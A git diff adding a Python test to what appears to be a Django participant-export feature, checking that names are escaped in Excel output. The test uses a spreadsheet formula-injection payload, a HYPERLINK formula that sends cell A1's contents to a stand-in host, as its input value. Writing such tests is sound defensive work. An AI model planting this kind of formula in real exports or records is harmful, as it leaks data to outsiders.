@@ -282,6 +282,15 @@ def test_export_with_identity_logs_one_read_per_identified_row(insats, user, log
     assert Atkomstlogg.objects.filter(vad=Atkomst.EXPORT).count() == 1
 
 
+def test_export_never_turns_a_name_into_a_formula(insats, user, login):
+    register_identified(insats, user, namn='=HYPERLINK("http://x.test/?"&A1,"Anna")')
+    response = login(user).post(f"/deltagare/insats/{insats.uuid}/export/", {"identitet": "on"})
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cell = sheet.cell(row=2, column=sheet.max_column)
+    assert cell.data_type == "s"
+    assert cell.value.startswith("'=HYPERLINK")
+
+
 def test_excel_with_real_date_and_number_cells(insats, user):
     wb = Workbook()
     ws = wb.active
